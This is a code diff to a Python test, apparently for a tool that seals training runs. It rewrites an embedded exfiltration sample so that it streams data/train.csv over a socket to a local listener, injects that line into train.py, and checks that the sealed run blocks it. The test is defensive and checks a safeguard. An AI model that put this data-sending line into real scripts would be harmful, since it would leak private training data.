@@ -7,6 +7,7 @@ believed only if it names the rule, check or entry that was expected to catch it
 
 from __future__ import annotations
 
+import socket
 import sqlite3
 import sys
 import threading
@@ -21,7 +22,7 @@ from custody.demo.life import COLUMNS, ORIGIN, Project, Step
 
 EXFILTRATION = """
 import socket
-socket.create_connection(("127.0.0.1", 9), timeout=5)
+socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(open("data/train.csv", "rb").read())
 """
 MALICIOUS = """
 import os, pathlib, pickle
@@ -216,13 +217,22 @@ def peeking(project: Project) -> Catch:
 
 
 def exfiltration(project: Project) -> Catch:
-    """The training script tries to send the data away."""
-    script = project.folder / "train.py"
-    script.write_text(EXFILTRATION + script.read_text())
-    step = project.custody("run", "--", sys.executable, "train.py", who="mel")
-    reason = str(step.body.get("hint") or step.reason)
-    caught = step.code == 1 and step.body.get("model") is None and "network" in reason.lower()
-    return Catch(step, caught, "sealed run without a network", reason, step.body.get("entry"))
+    """The training script tries to send the data to a listener that waits outside."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.settimeout(0.2)
+        script = project.folder / "train.py"
+        script.write_text(EXFILTRATION.format(port=listener.getsockname()[1]) + script.read_text())
+        step = project.custody("run", "--", sys.executable, "train.py", who="mel")
+        try:
+            listener.accept()[0].close()
+            reached = True
+        except TimeoutError:
+            reached = False
+    log = Path(str(step.body.get("log", "")))
+    last = log.read_text("utf-8", "replace").strip().splitlines()[-1:] if log.is_file() else []
+    reason = "the listener outside heard nothing; the script saw: " + " ".join(last)
+    caught = not reached and step.code == 1 and step.body.get("model") is None and bool(last)
+    return Catch(step, caught, "a sealed run has no network", reason, step.body.get("entry"))
 
 
 def edited_row(project: Project) -> Catch:
